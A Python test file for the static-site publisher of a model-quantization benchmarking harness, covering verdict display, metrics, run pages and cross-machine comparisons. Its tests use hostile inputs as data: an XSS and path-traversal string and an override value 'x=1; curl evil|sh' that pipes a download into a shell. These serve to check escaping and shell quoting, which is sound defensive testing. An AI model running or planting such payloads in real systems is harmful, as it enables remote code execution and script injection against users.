"""What is newest of each arm, and that only an arm which is equivalent everywhere looks so."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from harness.core.cell import IMPORTED
from harness.core.record import Step
from harness.core.verdict import Verdict
from harness.publish import places
from harness.publish.beside import boxes
from harness.publish.pages import front
from harness.publish.said import newest_figure, trouble, verdict
from harness.publish.sheet import Charts, Grid, Prose
from harness.publish.site import publish
from harness.publish.stock import ArmKey, Standing, Stock
from tests.publish.made import Page, arm, metric, pages, report, run
from tests.publish.made import verdict as judged

KEY = ArmKey("box", "m", "q4", "llama_cpp")
HOSTILE = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>\u202e../../../x{{ 7*7 }}javascript:alert(3)"


def _standing(*verdicts: Verdict) -> Standing:
    return Stock([run(1, arm("q4", [judged(one, f"t{n}") for n, one in enumerate(verdicts)]))], []).standings[KEY]


@pytest.mark.parametrize(
    ("verdicts", "tone", "text"),
    [
        ((Verdict.EQUIVALENT, Verdict.EQUIVALENT), "equivalent", "≈ equivalent on all 2"),
        ((Verdict.EQUIVALENT, Verdict.INCONCLUSIVE), "inconclusive", "? inconclusive on 1 of 2"),
        ((Verdict.INCONCLUSIVE, Verdict.DEGRADED), "degraded", "▼ degraded on 1 of 2"),
        ((Verdict.EQUIVALENT, Verdict.BROKEN, Verdict.INCONCLUSIVE), "broken", "✕ broken on 1 of 3"),
        ((Verdict.EQUIVALENT,), "equivalent", "≈ equivalent on the only task"),
    ],
)
def test_an_arm_looks_like_the_worst_of_its_verdicts(verdicts: tuple[Verdict, ...], tone: str, text: str) -> None:
    found = verdict(_standing(*verdicts))
    assert (found.tone, found.text) == (tone, text)


def test_verdicts_and_speeds_are_each_of_the_newest_run_that_has_them() -> None:
    runs = [
        run(1, arm("q4", [judged(Verdict.DEGRADED)], [metric("decode", 10)])),
        run(2, arm("q4", [judged(Verdict.EQUIVALENT)])),
        run(3, arm("q4", metrics=[metric("decode", 30)])),
    ]
    one = Stock(runs, []).standings[KEY]
    assert one.tone == "equivalent"
    decode = one.figure("decode")
    assert decode is not None
    assert decode.metric.value == 30
    assert one.newest.run == runs[2]


def test_a_night_of_other_loads_takes_no_figure_away_and_changes_no_meaning() -> None:
    busy, paced = Step(concurrency=8), Step(rate=2.0)
    runs = [
        run(1, arm("q4", metrics=[metric("decode", 30), metric("energy", 2, step=busy)])),
        run(2, arm("q4", metrics=[metric("decode", 5, load="busy", step=busy), metric("decode", 6, step=paced)])),
    ]
    one = Stock(runs, []).standings[KEY]
    decode, energy = newest_figure(one, "decode"), newest_figure(one, "energy")
    assert (decode.text, decode.detail.split("\n")[1:]) == ("30.0 tok/s", ["of 2 Mar 2026"])
    assert (energy.text, energy.detail.split("\n")[1:]) == ("2.00 J/tok", ["8 concurrent", "of 2 Mar 2026"])
    assert newest_figure(one, "ttft").text == ""
    later = run(3, arm("q4", metrics=[metric("decode", 7, load="busy", step=busy)]))
    moved = Stock([*runs, replace(later, fingerprint="another cpu")], []).standings[KEY]
    assert newest_figure(moved, "decode").text == "7.00 tok/s", "of the old hardware nothing is shown as of the new"


def test_what_was_measured_on_another_box_says_so_wherever_it_is_shown(tmp_path: Path) -> None:
    one = replace(run(1, arm("q4", metrics=[metric("decode", 30)])), elsewhere=True)
    publish([one], tmp_path / "none", tmp_path / "site")
    said = {page.path.parent.name: page.text for page in pages(tmp_path / "site") if page.path.name != "404.html"}
    assert {name for name, text in said.items() if "measured on another box than box" in text} == {
        "site", "box", "model", "run"}
    assert "on another box" in said["quant"]


def test_a_run_is_made_again_by_a_line_that_a_shell_takes_as_it_is_meant(tmp_path: Path) -> None:
    words = ("quant=[q8_0,q4_k_m]", "x=1; curl evil|sh", "results=elsewhere", "reports=there")
    runs = [replace(run(1, arm("q4")), overrides=words), replace(run(2, arm("q4"), hw=IMPORTED), overrides=())]
    publish(runs, tmp_path / "none", tmp_path / "site")
    text = [Page(tmp_path / "site" / "run" / f"{one.plan}.html").text for one in runs]
    assert "python -m harness run 'quant=[q8_0,q4_k_m]' 'x=1; curl evil|sh' " in text[0]
    assert "reports=" not in text[0]
    assert "The same again" not in text[1]


def test_the_newest_of_several_reports_of_a_run_is_its_report_and_the_others_are_linked_too(tmp_path: Path) -> None:
    one = run(1, arm("q4"))
    for number in ("", "-2", "-10"):
        report(tmp_path / "reports", f"2026-03-01-m{number}", one.plan)
    publish([one], tmp_path / "reports", tmp_path / "site")
    links = {page.path.name: [each for each in page.links if "reports/" in each] for page in pages(tmp_path / "site")}
    assert links["index.html"] == ["reports/2026-03-01-m-10/index.html"]
    assert links[f"{one.plan}.html"] == [f"../reports/2026-03-01-m{number}/index.html" for number in ("-10", "-2", "")]


def test_steps_for_the_worse_are_told_where_nothing_was_judged() -> None:
    runs = [run(n, arm("q4", metrics=[metric("decode", one)])) for n, one in enumerate([50.0] * 8 + [40.0] * 8)]
    assert front(Stock(runs, [])).lead == (
        "No quantization has been judged yet. One history has a step for the worse, the newest since 9 Mar 2026.")


def test_a_run_that_has_not_begun_hides_nothing(tmp_path: Path) -> None:
    runs = [run(1, arm("q4", [judged(Verdict.EQUIVALENT)])), run(2, arm("q4", [judged(Verdict.BROKEN)]))]
    runs[1] = replace(runs[1], started="", ended="", measured=0)
    assert Stock(runs, []).standings[KEY].tone == "equivalent"
    publish(runs, tmp_path / "none", tmp_path / "site")
    text = Page(tmp_path / "site/index.html").text
    assert "4 of 4 cells were not measured" in text
    assert [page.dead() for page in pages(tmp_path / "site") if page.dead()] == []
    publish(runs[1:], tmp_path / "none", tmp_path / "site")
    assert [page.dead() for page in pages(tmp_path / "site") if page.dead()] == []


def test_what_waits_for_another_night_is_no_trouble() -> None:
    one = run(1, arm("q4"))
    assert trouble(one) == ""
    assert trouble(replace(one, measured=3, later=1)) == ""
    assert trouble(replace(one, measured=2, failed=1, reasons=("out of memory",))) == (
        "1 of 4 cells failed, 1 of 4 cells were not measured (out of memory)")


def test_boxes_are_compared_on_valid_figures_of_the_same_step_and_suite() -> None:
    other = Step(concurrency=2)
    runs = [
        run(1, arm("q4", [judged(Verdict.EQUIVALENT)], [metric("decode", 10), metric("ttft", 1, step=other)]), hw="a"),
        run(2, arm("q4", [judged(Verdict.DEGRADED)], [metric("decode", 20), metric("ttft", 2)]), hw="b"),
        run(3, arm("q4", [judged(Verdict.DEGRADED)], [metric("decode", 99, "invalid")]), hw="c", suite="cd" * 8),
    ]
    quality, charts, grid = boxes(list(Stock(runs, []).standings.values()))
    assert isinstance(quality, Grid)
    assert [field.text for field in quality.rows[0]][1:] == ["≈ equivalent on the only task",
                                                             "▼ degraded on the only task", ""]
    assert "1 arms answered another suite" in quality.note
    assert isinstance(charts, Charts)
    assert [plot.title for plot in charts.plots] == ["Decode, single stream, tok/s"]
    assert isinstance(grid, Grid)
    assert [field.text for field in grid.rows[0]][1:] == ["10.0 tok/s", "20.0 tok/s", ""]


def test_one_box_is_not_compared_with_itself() -> None:
    (said,) = boxes(list(Stock([run(1, arm("q4"))], []).standings.values()))
    assert isinstance(said, Prose)


def test_names_that_want_out_stay_text_and_their_pages_stay_inside(tmp_path: Path) -> None:
    bad = arm(HOSTILE, [judged(Verdict.INCONCLUSIVE, HOSTILE, HOSTILE)], [metric("decode", 5)], model=HOSTILE)
    one = replace(run(1, replace(bad, engine=HOSTILE, sentence=HOSTILE), hw=HOSTILE), failed=1, reasons=(HOSTILE,),
                  night=HOSTILE, machine=HOSTILE, overrides=(HOSTILE,), suite=HOSTILE)
    publish([one], tmp_path / "none", tmp_path / "a" / "site")
    assert {path.name for path in tmp_path.iterdir()} == {"a"}
    assert {path.name for path in (tmp_path / "a").iterdir()} == {"site"}
    found = pages(tmp_path / "a" / "site")
    assert len(found) == 7
    for page in found:
        assert page.dead() == []
        assert page.events == []
        assert "<img" not in page.path.read_text()
        assert "\u202e" not in page.path.read_text()
    assert "7*7" in Page(tmp_path / "a" / "site" / "index.html").text


@given(st.text(), st.text())
def test_names_have_addresses_of_their_own_that_stay_in_their_folder(one: str, other: str) -> None:
    slugs = places.slug(one), places.slug(other)
    assert (slugs[0] == slugs[1]) == (one == other)
    assert all(slug and "/" not in slug and not slug.startswith(".") and len(slug) < 80 for slug in slugs)
